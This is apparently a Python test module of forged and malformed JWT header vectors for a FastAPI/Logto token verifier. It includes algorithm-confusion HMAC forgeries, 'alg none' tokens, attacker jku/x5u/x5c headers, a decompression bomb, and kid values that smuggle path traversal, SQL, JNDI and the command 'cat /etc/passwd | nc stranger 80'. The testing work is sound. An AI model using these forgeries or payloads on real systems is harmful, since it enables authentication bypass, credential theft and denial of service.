"""Tokens with a changed JOSE header. Each is signed by a published key unless its row says otherwise."""

import hmac
import json
import zlib
from base64 import b64encode, urlsafe_b64decode
from collections.abc import Callable
from typing import Final, Literal

from joserfc.jwk import ECKey, RSAKey

from fastapi_logto.settings import SettingsArguments
from fastapi_logto.testing.signing import encode_segment
from tests.vectors.forge import ABSENT, Forge, build_claims_set, dump, each, sign
from tests.vectors.rows import ALGORITHM, ID_TOKEN, MALFORMED, SIGNATURE, TYPE, UNKNOWN_KEY, Refusal, TokenRow

_CONFUSION: Final = "CVE-2015-9235, CVE-2022-29217, CVE-2024-33663, CVE-2024-37568; RFC 8725 section 3.1"
_SAME_FAMILY: Final = "CVE-2026-48523; RFC 8725 section 3.1"
_NONE: Final = "CVE-2026-28802; RFC 8725 section 3.2"
_EMBEDDED: Final = "CVE-2018-0114, CVE-2026-27962; RFC 8725 section 3.10"
_KID: Final = "RFC 7515 section 4.1.4; RFC 8725 section 3.10"
_CRIT: Final = "CVE-2025-59420, CVE-2026-32597, CVE-2026-48525; RFC 7515 section 4.1.11"
_B64: Final = "RFC 7797 sections 6 and 7"
_TYP: Final = "RFC 7515 section 4.1.9; RFC 9068 section 4"
_TYPES: Final = "RFC 8725 section 3.11; RFC 9068 section 4"
_IGNORED: Final = "RFC 7515 section 4"
_COMPRESSED: Final = "CVE-2024-33664, CVE-2026-27932"
_JSON: Final = "RFC 7515 sections 4 and 5.2; RFC 8259"
_UTF8: Final = "RFC 7515 section 5.2; RFC 8259 section 8.1"
_DUPLICATE: Final = "RFC 7515 section 4; RFC 8259 section 4"
_SURROGATE: Final = "RFC 7493 section 2.1"

_HmacAlgorithm = Literal["HS256", "HS384", "HS512"]
_NESTED: Final[list[list[object]]] = [[]]
_WITH_PS256: Final = SettingsArguments(algorithms=("ES384", "RS256", "PS256"))
_WITH_ABSENT: Final = SettingsArguments(token_types=("at+jwt", "absent"))
_WITH_JWT: Final = SettingsArguments(token_types=("at+jwt", "JWT"))
_LONGEST: Final = SettingsArguments(max_token_bytes=131_072)


def _row(
    name: str,
    refusal: Refusal | None,
    reference: str,
    *,
    claim: str | None = None,
    settings: SettingsArguments | None = None,
    **changes: object,
) -> TokenRow:
    """Return a row of the valid header with some members changed."""
    return _made(name, refusal, reference, lambda forge: forge.with_header(**changes), claim=claim, settings=settings)


def _text(
    name: str, refusal: Refusal | None, reference: str, text: str, *, claim: str | None = None, long: bool = False
) -> TokenRow:
    """Return a row of a header that is exactly this JSON text."""
    settings = _LONGEST if long else None
    return _made(name, refusal, reference, lambda forge: forge.with_header_text(text), claim=claim, settings=settings)


def _bytes(name: str, reference: str, change: Callable[[str], bytes]) -> TokenRow:
    """Return a row of a header whose bytes are not UTF-8 text."""
    return _made(
        name, MALFORMED, reference, lambda forge: forge.with_raw_header(change(dump(forge.header()).decode("ascii")))
    )


def _made(
    name: str,
    refusal: Refusal | None,
    reference: str,
    change: Callable[[Forge], str],
    *,
    claim: str | None = None,
    settings: SettingsArguments | None = None,
) -> TokenRow:
    return TokenRow(
        id=name,
        refused=refusal,
        claim=claim,
        reference=reference,
        settings=settings or SettingsArguments(),
        change=change,
    )


def _kid(name: str, change: Callable[[str], str]) -> TokenRow:
    """Return a row of the valid token with a `kid` that is almost the one of its key."""
    return _made(
        name, UNKNOWN_KEY, _KID, lambda forge: forge.with_header(kid=change(forge.ec.thumbprint())), claim="kid"
    )


def _hmac(alg: _HmacAlgorithm, material: Callable[[Forge], bytes]) -> Callable[[Forge], str]:
    """Sign with HMAC and a public value as the secret."""

    def change(forge: Forge) -> str:
        head = f"{encode_segment(dump(forge.header(alg=alg)))}.{encode_segment(dump(build_claims_set()))}"
        return f"{head}.{_mac(alg, key=material(forge), text=head)}"

    return change


def _mac(alg: _HmacAlgorithm, *, key: bytes, text: str) -> str:
    # By hand, because the JOSE engine refuses to use a public key as a secret. An attacker does not.
    return encode_segment(hmac.digest(key, text.encode("ascii"), f"sha{alg[2:]}"))


def _pem(forge: Forge) -> bytes:
    return forge.ec.as_pem(private=False)


def _der(forge: Forge) -> bytes:
    return forge.ec.as_der(private=False)


def _rsa_pem(forge: Forge) -> bytes:
    return forge.rsa.as_pem(private=False)


def _raw_point(forge: Forge) -> bytes:
    public = forge.ec.as_dict(private=False)
    return b"\x04" + b"".join(urlsafe_b64decode(str(public[name]) + "==") for name in ("x", "y"))


def _modulus(forge: Forge) -> bytes:
    return urlsafe_b64decode(str(forge.rsa.as_dict(private=False)["n"]) + "==")


def _public_jwk(key: ECKey | RSAKey) -> dict[str, object]:
    return dict(key.as_dict(private=False))


def _by_stranger(**header: object) -> Callable[[Forge], str]:
    """Sign with the stranger's key, under the published key's id."""
    return lambda forge: forge.with_key(forge.stranger, signed_as="ES384", kid=forge.ec.thumbprint(), **header)


def _with_strangers_jwk(forge: Forge, **header: object) -> str:
    return forge.with_key(forge.stranger, signed_as="ES384", jwk=_public_jwk(forge.stranger), **header)


def _without_signature(alg: object) -> Callable[[Forge], str]:
    return lambda forge: forge.with_header(alg=alg).rpartition(".")[0] + "."


def _hmac_under_honest_alg(forge: Forge) -> str:
    signing_input = forge.good().rpartition(".")[0]
    return f"{signing_input}.{_mac('HS384', key=_pem(forge), text=signing_input)}"


def _unencoded_payload(forge: Forge) -> str:
    header = encode_segment(dump(forge.header(b64=False, crit=["b64"])))
    return sign(f"{header}.$02", alg="ES384", key=forge.ec)


def _deflated(forge: Forge) -> str:
    packer = zlib.compressobj(wbits=-15)
    bomb = packer.compress(b'{"x":"' + b"A" * 2**20) + packer.flush()
    return forge.with_payload(bomb, zip="DEF")


def _nested(open_sign: str, close_sign: str, depth: int) -> str:
    return open_sign * depth + close_sign * depth


_ALGORITHM_ROWS: Final = (
    _made("HS256 with the PEM", ALGORITHM, _CONFUSION, _hmac("HS256", _pem), claim="alg"),
    _made(
        "HS384 with the PEM without its last line feed",
        ALGORITHM,
        _CONFUSION,
        _hmac("HS384", lambda f: _pem(f).rstrip()),
        claim="alg",
    ),
    _made("HS256 with the DER", ALGORITHM, _CONFUSION, _hmac("HS256", _der), claim="alg"),
    _made("HS512 with the JWK", ALGORITHM, _CONFUSION, _hmac("HS512", lambda f: dump(_public_jwk(f.ec))), claim="alg"),
    _made("HS256 with the point", ALGORITHM, _CONFUSION, _hmac("HS256", _raw_point), claim="alg"),
    _made(
        "HS256 with the RSA PEM",
        ALGORITHM,
        _CONFUSION,
        _hmac("HS256", _rsa_pem),
        claim="alg",
    ),
    _made("HS256 with the RSA modulus", ALGORITHM, _CONFUSION, _hmac("HS256", _modulus), claim="alg"),
    _made("HMAC with the PEM under an honest alg", SIGNATURE, _CONFUSION, _hmac_under_honest_alg),
    *(
        _row(f"alg {alg!r} with a signature", ALGORITHM, _NONE, claim="alg", alg=alg)
        for alg in each(["none", "None", "NONE", "nOnE", "none ", " none", "none\x00", "n\u043ene", ""])
    ),
    *(
        _made(f"alg {alg!r} without a signature", ALGORITHM, _NONE, _without_signature(alg), claim="alg")
        for alg in each(["none", "None", "NONE", "nOnE", "none ", " none", ""])
    ),
    _made("alg none in two segments", MALFORMED, _NONE, lambda f: f.with_header(alg="none").rpartition(".")[0]),
    _made("no signature under an honest alg", MALFORMED, _NONE, _without_signature("ES384")),
    _row("alg missing", ALGORITHM, "RFC 7515 section 4.1.1", claim="alg", alg=ABSENT),
    *(
        _row(f"alg of JSON {json.dumps(alg)}", ALGORITHM, "RFC 7515 section 4.1.1", claim="alg", alg=alg)
        for alg in each(
            [None, True, 1234, ["ES384"], {"ES384": "ES384"}, "es384", "ES384 ", "ES384,RS256", "ES384\x00", "ES"]
        )
    ),
    *(
        _row(f"alg {alg} not accepted", ALGORITHM, _SAME_FAMILY, claim="alg", alg=alg)
        for alg in each(["ES256K", "EdDSA", "RS512", "RSA-OAEP", "dir", "PBES2-HS256+A128KW"])
    ),
    _made("PS256 by the RSA key", ALGORITHM, _SAME_FAMILY, lambda f: f.with_key(f.rsa, signed_as="PS256"), claim="alg"),
    _made("RS384 by the RSA key", ALGORITHM, _SAME_FAMILY, lambda f: f.with_key(f.rsa, signed_as="RS384"), claim="alg"),
    _made(
        "PS256 accepted, by an RSA key without alg",
        None,
        "RFC 7518 section 3.5",
        lambda f: f.with_key(f.rsa, signed_as="PS256"),
        settings=_WITH_PS256,
    ),
    _made(
        "PS256 accepted, by the key bound to RS256",
        ALGORITHM,
        "CVE-2026-48523; RFC 7517 section 4.4",
        lambda f: f.with_key(f.rsa_bound, signed_as="PS256"),
        claim="alg",
        settings=_WITH_PS256,
    ),
    _made(
        "PS256 in the header over an RS256 signature",
        SIGNATURE,
        _SAME_FAMILY,
        lambda f: f.with_key(f.rsa, signed_as="RS256", alg="PS256"),
        settings=_WITH_PS256,
    ),
    _made(
        "RS256 in the header over a PS256 signature",
        SIGNATURE,
        _SAME_FAMILY,
        lambda f: f.with_key(f.rsa, signed_as="PS256", alg="RS256"),
    ),
    _row("ES256 under the P-384 key", ALGORITHM, _SAME_FAMILY, claim="alg", alg="ES256"),
    _row("ES512 under the P-384 key", ALGORITHM, _SAME_FAMILY, claim="alg", alg="ES512"),
    _made(
        "ES384 under the P-256 key",
        ALGORITHM,
        _SAME_FAMILY,
        lambda f: f.with_key(f.p256, signed_as="ES256", alg="ES384"),
        claim="alg",
    ),
    _made(
        "ES256 accepted, by the P-256 key",
        None,
        "RFC 7518 section 3.4",
        lambda f: f.with_key(f.p256, signed_as="ES256"),
    ),
    _row("RS256 under the P-384 key", ALGORITHM, _CONFUSION, claim="alg", alg="RS256"),
    _made(
        "ES384 under the RSA key's id",
        ALGORITHM,
        _CONFUSION,
        lambda f: f.with_header(kid=f.rsa.thumbprint()),
        claim="alg",
    ),
    _made(
        "RS256 under the RSA key's id by the P-384 key",
        SIGNATURE,
        _CONFUSION,
        lambda f: f.with_header(alg="RS256", kid=f.rsa.thumbprint()),
    ),
)

_KEY_ROWS: Final = (
    _made("signed by a stranger under our kid", SIGNATURE, _EMBEDDED, _by_stranger()),
    _made(
        "RS256 by a stranger under our kid",
        SIGNATURE,
        _EMBEDDED,
        lambda f: f.with_key(f.stranger_rsa, signed_as="RS256", kid=f.rsa.thumbprint()),
    ),
    _made(
        "signed by a stranger under his kid",
        UNKNOWN_KEY,
        _EMBEDDED,
        lambda f: f.with_key(f.stranger, signed_as="ES384"),
        claim="kid",
    ),
    _made(
        "the stranger's jwk under our kid",
        SIGNATURE,
        _EMBEDDED,
        lambda f: _with_strangers_jwk(f, kid=f.ec.thumbprint()),
    ),
    _made("the stranger's jwk under his kid", UNKNOWN_KEY, _EMBEDDED, _with_strangers_jwk, claim="kid"),
    _made(
        "the stranger's jwk without a kid",
        UNKNOWN_KEY,
        _EMBEDDED,
        lambda f: _with_strangers_jwk(f, kid=ABSENT),
        claim="kid",
    ),
    _made("jku of a stranger", SIGNATURE, _EMBEDDED, _by_stranger(jku="https://stranger.example.test/jwks")),
    _made("x5u of a stranger", SIGNATURE, _EMBEDDED, _by_stranger(x5u="https://stranger.example.test/cert.pem")),
    _made(
        "x5c of a stranger",
        SIGNATURE,
        _EMBEDDED,
        lambda f: _by_stranger(x5c=[b64encode(f.stranger.as_der(private=False)).decode("ascii")])(f),
    ),
    _row("jku beside a good signature is not followed", None, _IGNORED, jku="https://stranger.example.test/jwks"),
    _row("x5u beside a good signature is not followed", None, _IGNORED, x5u="file:///etc/passwd"),
    _made(
        "a jwk beside a good signature is ignored", None, _IGNORED, lambda f: f.with_header(jwk=_public_jwk(f.stranger))
    ),
    *(
        _row(f"kid that is {what}", UNKNOWN_KEY, _KID, claim="kid", kid=kid)
        for what, kid in (
            ("a path", "../../../../../../dev/null"),
            ("an absolute path", "/proc/sys/kernel/randomize_va_space"),
            ("a URL", "https://stranger.example.test/key.pem"),
            ("SQL", "x' UNION SELECT 'aaaa' -- "),
            ("a command", "key.pem; cat /etc/passwd | nc stranger 80"),
            ("a line break", "kid\r\n\x1b[2Jrefused: nothing"),
            ("NUL", "\x00"),
            ("a space", " "),
            ("not ASCII", "\u043a\u043b\u044e\u0447"),
            ("of 256 characters", "k" * 256),
            ("a template", "{{7*7}}${jndi:ldap://stranger.example.test/}"),
        )
    ),
    _kid("our kid and NUL", lambda kid: kid + "\x00"),
    _kid("our kid and a space", lambda kid: kid + " "),
    _kid("our kid cut short", lambda kid: kid[:-1]),
    _kid("our kid in another case", str.swapcase),
    _kid("our kid and another", lambda kid: f"{kid},other"),
    _row("kid empty", MALFORMED, _KID, claim="kid", kid=""),
    _row("kid of 257 characters", MALFORMED, _KID, claim="kid", kid="k" * 257),
    *(
        _row(f"kid of JSON {json.dumps(kid)}", MALFORMED, _KID, claim="kid", kid=kid)
        for kid in each([0, 1, 1.5, True, False, [], {}, [None]])
    ),
    _made("kid a list of ours", MALFORMED, _KID, lambda f: f.with_header(kid=[f.ec.thumbprint()]), claim="kid"),
    _row("kid missing and two keys fit", UNKNOWN_KEY, _KID, claim="kid", kid=ABSENT),
    _row("kid null and two keys fit", MALFORMED, _KID, claim="kid", kid=None),
    _made(
        "kid missing and one key fits",
        None,
        _KID,
        lambda f: f.with_key(f.p256, signed_as="ES256", kid=ABSENT),
    ),
    _made(
        "kid null and one key fits",
        MALFORMED,
        _KID,
        lambda f: f.with_key(f.p256, signed_as="ES256", kid=None),
        claim="kid",
    ),
)

_MEMBER_ROWS: Final = (
    *(
        _row(f"crit {json.dumps(crit)}", MALFORMED, _CRIT, claim="crit", crit=crit)
        for crit in each(
            [
                ["exp"],
                ["unknown"],
                ["b64"],
                ["b64", "b64"],
                [],
                ["alg"],
                ["kid"],
                ["jku"],
                ["typ"],
                [""],
                _NESTED,
                [None],
                [1],
                None,
                "exp",
                "",
                1,
                0,
                True,
                False,
                {},
                {"exp": True},
            ]
        )
    ),
    _row("crit names a member that is there", MALFORMED, _CRIT, claim="crit", crit=["exp"], exp=1),
    _row("crit and b64 false", MALFORMED, _B64, claim="crit", crit=["b64"], b64=False),
    _row("crit and b64 true", MALFORMED, _B64, claim="crit", crit=["b64"], b64=True),
    _made("an unencoded payload", MALFORMED, _B64, _unencoded_payload, claim="crit"),
    *(
        _row(f"b64 {json.dumps(b64)}", MALFORMED, _B64, claim="b64", b64=b64)
        for b64 in each([False, True, None, "false", 0, []])
    ),
    *(
        _row(f"typ {typ}", None, _TYP, typ=typ)
        for typ in each(["AT+JWT", "At+Jwt", "application/at+jwt", "APPLICATION/AT+JWT"])
    ),
    *(
        _row(f"typ {json.dumps(typ)}", TYPE, _TYPES, claim="typ", typ=typ)
        for typ in each(
            [
                "JWT",
                "jwt",
                "application/jwt",
                "logout+jwt",
                "application/logout+jwt",
                "secevent+jwt",
                "dpop+jwt",
                "token-introspection+jwt",
                "JOSE",
                "absent",
                "at",
                "",
                "at+jwt ",
                " at+jwt",
                "at+jwt\n",
                "at+jwt\x00",
                "application/application/at+jwt",
                "text/at+jwt",
                "at+jwt; charset=utf-8",
                "\uff41t+jwt",
                0,
                1,
                True,
                False,
                [],
                {},
                ["at+jwt"],
                {"at+jwt": 1},
            ]
        )
    ),
    _row("typ missing", ID_TOKEN, _TYPES, claim="typ", typ=ABSENT),
    _row("typ null", TYPE, _TYPES, claim="typ", typ=None),
    _row("typ missing where that is accepted", None, _TYPES, settings=_WITH_ABSENT, typ=ABSENT),
    _row("typ null where a missing one is accepted", TYPE, _TYPES, claim="typ", settings=_WITH_ABSENT, typ=None),
    _row("typ absent, spelt out", TYPE, _TYPES, claim="typ", settings=_WITH_ABSENT, typ="absent"),
    _row("typ JWT where a missing one is accepted", TYPE, _TYPES, claim="typ", settings=_WITH_ABSENT, typ="JWT"),
    _row("typ JWT where that is accepted", None, _TYPES, settings=_WITH_JWT, typ="JWT"),
    _row("typ jwt where JWT is accepted", None, _TYP, settings=_WITH_JWT, typ="jwt"),
    _row("typ missing where JWT is accepted", ID_TOKEN, _TYPES, claim="typ", settings=_WITH_JWT, typ=ABSENT),
    _row("typ logout+jwt where JWT is accepted", TYPE, _TYPES, claim="typ", settings=_WITH_JWT, typ="logout+jwt"),
    _made("zip with a compressed payload", MALFORMED, _COMPRESSED, _deflated),
    _row("zip beside a plain payload is ignored", None, _IGNORED, zip="DEF"),
    _row("p2c beside a plain alg costs nothing", None, _COMPRESSED, p2c=10**18, p2s="AAAA"),
    _row("enc beside a signature's alg is ignored", None, _IGNORED, enc="A128GCM"),
    _row("an unknown member is ignored", None, _IGNORED, unknown={"deep": [1, 2.5, None, "\u00e9"]}),
    _made(
        "a nested JWS",
        MALFORMED,
        "RFC 7519 section 5.2",
        lambda f: f.with_payload(f.good().encode("ascii"), cty="JWT"),
    ),
)

_GOOD_TEXT: Final = '"alg":"ES384","typ":"at+jwt","kid":"KID"'

_TEXT_ROWS: Final = (
    _text("white space between members", None, _JSON, f" {{\n\t{_GOOD_TEXT.replace(',', ' , ')} }}\r\n"),
    _text("member names spelt with escapes", None, _JSON, '{"\\u0061lg":"ES384","typ":"at+jwt","kid":"KID"}'),
    _text("a header of 31 nested lists", None, _JSON, f'{{{_GOOD_TEXT},"x":{_nested("[", "]", 31)}}}'),
    _text("a header of 32 nested lists", MALFORMED, "CVE-2026-27932", f'{{{_GOOD_TEXT},"x":{_nested("[", "]", 32)}}}'),
    _text(
        "a header of 40,000 nested lists",
        MALFORMED,
        "CVE-2026-27932",
        f'{{{_GOOD_TEXT},"x":{_nested("[", "]", 40_000)}}}',
        long=True,
    ),
    _text(
        "a header of 14,000 nested objects",
        MALFORMED,
        "CVE-2026-27932",
        f'{{{_GOOD_TEXT},"x":{_nested(chr(123) + chr(34) + "a" + chr(34) + ":", "", 14_000)}0{"}" * 14_001}',
        long=True,
    ),
    _text("a header of 90,000 lists never closed", MALFORMED, "CVE-2026-27932", "[" * 90_000, long=True),
    _text("an empty object", ALGORITHM, _JSON, "{}", claim="alg"),
    *(
        _text(f"the JSON {text}", MALFORMED, _JSON, text)
        for text in ("[]", '["alg"]', '[["alg","ES384"]]', '"alg"', '"ES384"', "0", "true", "null", " ", "{", "alg")
    ),
    _text("no double quotes", MALFORMED, _JSON, "{'alg':'ES384'}"),
    _text("a comment", MALFORMED, _JSON, f"{{{_GOOD_TEXT}/*x*/}}"),
    _text("a comma at the end", MALFORMED, _JSON, f"{{{_GOOD_TEXT},}}"),
    _text("something behind the object", MALFORMED, _JSON, f"{{{_GOOD_TEXT}}}x"),
    _text("two objects", MALFORMED, _JSON, f"{{{_GOOD_TEXT}}}{{{_GOOD_TEXT}}}"),
    _text("NUL behind the object", MALFORMED, _JSON, f"{{{_GOOD_TEXT}}}\x00"),
    _text("a control character in a text", MALFORMED, _JSON, f'{{{_GOOD_TEXT},"x":"\x01"}}'),
    *(
        _text(f"the number {number}", MALFORMED, _JSON, f'{{{_GOOD_TEXT},"x":{number}}}')
        for number in ("NaN", "Infinity", "-Infinity", "1e400", "-1e400", "[1e999]", "1" * 5000)
    ),
    _text("alg twice, none first", MALFORMED, _DUPLICATE, f'{{"alg":"none",{_GOOD_TEXT}}}'),
    _text("alg twice, none last", MALFORMED, _DUPLICATE, f'{{{_GOOD_TEXT},"alg":"none"}}'),
    _text("alg twice, the same", MALFORMED, _DUPLICATE, f'{{{_GOOD_TEXT},"alg":"ES384"}}'),
    _text("alg twice, once with escapes", MALFORMED, _DUPLICATE, f'{{{_GOOD_TEXT},"\\u0061lg":"ES384"}}'),
    _text("kid twice", MALFORMED, _DUPLICATE, f'{{"kid":"other",{_GOOD_TEXT}}}'),
    _text("typ twice", MALFORMED, _DUPLICATE, f'{{"typ":"JWT",{_GOOD_TEXT}}}'),
    _text("crit twice", MALFORMED, _DUPLICATE, f'{{"crit":["exp"],"crit":[],{_GOOD_TEXT}}}'),
    _text("a nested member twice", MALFORMED, _DUPLICATE, f'{{{_GOOD_TEXT},"x":[{{"a":1,"a":1}}]}}'),
    _text("lone surrogate as kid", MALFORMED, _SURROGATE, '{"alg":"ES384","typ":"at+jwt","kid":"\\ud800"}'),
    _text("lone surrogate as alg", MALFORMED, _SURROGATE, '{"alg":"\\udfff","typ":"at+jwt","kid":"KID"}'),
    _text("lone surrogate as typ", MALFORMED, _SURROGATE, '{"alg":"ES384","typ":"\\udfff","kid":"KID"}'),
    _text("lone surrogate in an unknown member", MALFORMED, _SURROGATE, f'{{{_GOOD_TEXT},"x":[{{"y":"\\ud800"}}]}}'),
    _text("lone surrogate as a name", MALFORMED, _SURROGATE, f'{{{_GOOD_TEXT},"\\ud800":1}}'),
    _text("surrogates in the wrong order", MALFORMED, _SURROGATE, f'{{{_GOOD_TEXT},"x":"\\ude00\\ud83d"}}'),
    _text("surrogates that make a pair", None, _SURROGATE, f'{{{_GOOD_TEXT},"x":"\\ud83d\\ude00"}}'),
    _text("surrogate as raw bytes", MALFORMED, _UTF8, f'{{{_GOOD_TEXT},"x":"\ud800"}}'),
    _bytes("BOM", _UTF8, lambda text: b"\xef\xbb\xbf" + text.encode()),
    _bytes("UTF-16 with BOM", _UTF8, lambda text: text.encode("utf-16")),
    _bytes("UTF-16, little-endian", _UTF8, lambda text: text.encode("utf-16-le")),
    _bytes("UTF-16, big-endian", _UTF8, lambda text: text.encode("utf-16-be")),
    _bytes("UTF-32 with BOM", _UTF8, lambda text: text.encode("utf-32")),
    _bytes("UTF-32, little-endian", _UTF8, lambda text: text.encode("utf-32-le")),
    _bytes("latin-1", _UTF8, lambda text: text.replace("at+jwt", "at+jwt\xe9").encode("latin-1")),
    _bytes("an overlong quotation mark", _UTF8, lambda text: text.encode().replace(b'"', b"\xc0\xa2", 1)),
    _bytes("cut short", _JSON, lambda text: text.encode()[:-1]),
    _bytes("encoded twice", _JSON, lambda text: encode_segment(text.encode()).encode()),
)

SEEN_LATE: Final = frozenset(
    {
        "zip with a compressed payload",
        "a nested JWS",
        "ES256 under the P-384 key",
        "ES512 under the P-384 key",
        "ES384 under the P-256 key",
        "ES384 under the RSA key's id",
        "PS256 accepted, by the key bound to RS256",
        "RS256 under the P-384 key",
    }
)
"""Rows with a valid header and shape. They fail later, because of their key, or their payload after the signature."""

HEADER_ROWS: Final = (
    TokenRow(id="good", refused=None, reference="RFC 9068 section 2.1", change=Forge.good),
    TokenRow(id="good, RS256", refused=None, reference="RFC 9068 section 2.1", change=Forge.good_rsa),
    *_ALGORITHM_ROWS,
    *_KEY_ROWS,
    *_MEMBER_ROWS,
    *_TEXT_ROWS,
)
